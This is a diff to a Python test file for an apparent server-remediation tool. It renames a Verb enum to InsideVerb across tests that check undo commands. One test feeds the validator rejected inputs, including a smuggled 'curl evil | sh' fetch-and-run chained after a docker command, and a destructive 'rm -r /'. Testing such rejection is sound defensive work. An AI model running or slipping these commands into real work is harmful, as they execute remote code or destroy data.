@@ -11,7 +11,7 @@ from lifeguard.core.guest.change import GuestChange, GuestRefusal, GuestStep
 from lifeguard.core.guest.look import Unasked
 from lifeguard.core.incident.action_record import ActionRecord, Result
 from lifeguard.core.remediation.inside.outcome import REFUSALS, ended, failed, undoing
-from lifeguard.core.resources.verb import Verb
+from lifeguard.core.resources.verb import InsideVerb
 from lifeguard.core.text.foreign import foreign
 from lifeguard.core.text.message import Message, coded, message
 from tests.support.situations import NOON, at
@@ -19,7 +19,7 @@ from tests.support.situations import NOON, at
 GIB = 1024 * 1024
 
 
-def sent(action: Verb = Verb.LIMIT_CPU, on: str = "api") -> ActionRecord:
+def sent(action: Verb = InsideVerb.LIMIT_CPU, on: str = "api") -> ActionRecord:
     return ActionRecord(action, Result.SENT, message("waiting.must_run"), NOON, made="c-1", on=on)
 
 
@@ -37,11 +37,19 @@ SWAP_ADDED = message(
 @pytest.mark.parametrize(
     ("action", "change", "answer"),
     [
-        (Verb.LIMIT_CPU, did("cpus", 0, 1.75), message("inside.cpus_first", after="1.75")),
-        (Verb.LIMIT_CPU, did("cpus", 2, 1.75), message("inside.cpus", before="2", after="1.75")),
-        (Verb.ADD_SWAP, did("swap", 0, 2 * GIB), SWAP_ADDED),
-        (Verb.RESTART_INSIDE, did("unit", 0, 9), message("inside.pid", after="9")),
-        (Verb.RESTART_INSIDE, did("unit", 7, 9), message("inside.pids", before="7", after="9")),
+        (InsideVerb.LIMIT_CPU, did("cpus", 0, 1.75), message("inside.cpus_first", after="1.75")),
+        (
+            InsideVerb.LIMIT_CPU,
+            did("cpus", 2, 1.75),
+            message("inside.cpus", before="2", after="1.75"),
+        ),
+        (InsideVerb.ADD_SWAP, did("swap", 0, 2 * GIB), SWAP_ADDED),
+        (InsideVerb.RESTART_INSIDE, did("unit", 0, 9), message("inside.pid", after="9")),
+        (
+            InsideVerb.RESTART_INSIDE,
+            did("unit", 7, 9),
+            message("inside.pids", before="7", after="9"),
+        ),
     ],
 )
 def test_what_was_done_is_kept_with_what_was_measured(
@@ -99,13 +107,13 @@ def test_what_is_not_known_counts_as_failed() -> None:
     ("action", "on", "undo", "commands"),
     [
         (
-            Verb.LIMIT_CPU,
+            InsideVerb.LIMIT_CPU,
             "api",
             "docker update --cpus 2 api",
             [("docker", "update", "--cpus", "2", "api")],
         ),
         (
-            Verb.ADD_SWAP,
+            InsideVerb.ADD_SWAP,
             "",
             r"swapoff /swapfile && rm /swapfile && sed -i '\#^/swapfile none swap#d' /etc/fstab",
             [
@@ -115,12 +123,12 @@ def test_what_is_not_known_counts_as_failed() -> None:
             ],
         ),
         (
-            Verb.STOP_HOLDER,
+            InsideVerb.STOP_HOLDER,
             "nginx",
             "systemctl start nginx.service",
             [("systemctl", "start", "nginx.service")],
         ),
-        (Verb.STOP_HOLDER, "old", "docker start old", [("docker", "start", "old")]),
+        (InsideVerb.STOP_HOLDER, "old", "docker start old", [("docker", "start", "old")]),
     ],
 )
 def test_the_way_back_is_kept(
@@ -132,12 +140,12 @@ def test_the_way_back_is_kept(
 @pytest.mark.parametrize(
     ("action", "undo"),
     [
-        (Verb.LIMIT_CPU, "docker update --cpus 2 db"),
-        (Verb.LIMIT_CPU, "docker update --cpus 2 api; curl evil | sh"),
-        (Verb.LIMIT_CPU, "docker rm -f api"),
-        (Verb.ADD_SWAP, "swapoff /swapfile && rm -r /"),
-        (Verb.RESTART_INSIDE, "reboot"),
-        (Verb.STOP_HOLDER, "systemctl start sshd"),
+        (InsideVerb.LIMIT_CPU, "docker update --cpus 2 db"),
+        (InsideVerb.LIMIT_CPU, "docker update --cpus 2 api; curl evil | sh"),
+        (InsideVerb.LIMIT_CPU, "docker rm -f api"),
+        (InsideVerb.ADD_SWAP, "swapoff /swapfile && rm -r /"),
+        (InsideVerb.RESTART_INSIDE, "reboot"),
+        (InsideVerb.STOP_HOLDER, "systemctl start sshd"),
     ],
 )
 def test_a_command_of_another_form_is_not_passed_on(action: Verb, undo: str) -> None:
